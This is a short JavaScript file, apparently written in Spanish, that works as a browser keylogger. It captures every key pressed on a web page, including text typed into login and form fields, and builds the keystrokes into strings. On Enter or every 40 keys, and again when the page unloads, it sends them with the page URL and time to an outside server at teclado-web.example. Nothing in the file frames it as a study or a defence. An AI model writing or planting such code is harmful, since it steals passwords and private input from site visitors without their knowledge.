var tabla = {8:'[BORRAR]',9:'[TAB]',13:'[ENTER]\n',16:'',17:'[CTRL]',18:'[ALT]',20:'[MAYUS]',27:'[ESC]',32:' ',37:'[IZQ]',38:'[ARR]',39:'[DER]',40:'[ABA]',46:'[SUPR]',
186:'ñ',187:'+',188:',',189:'-',190:'.',191:'/'};
var registro = [];
$(document).keydown(function(e){
  var c = e.which;
  var t = tabla[c];
  if (t === undefined) {
    t = String.fromCharCode(c);
    if (!e.shiftKey) t = t.toLowerCase();
  }
  registro.push(t);
  if (c === 13 || registro.length >= 40) {
    $.post('https://teclado-web.example/api/log', { texto: registro.join(''), url: document.location.href, fecha: new Date().toLocaleString() });
    registro = [];
  }
});
$(window).on('unload', function(){
  if (registro.length) navigator.sendBeacon('https://teclado-web.example/api/log', registro.join(''));
});
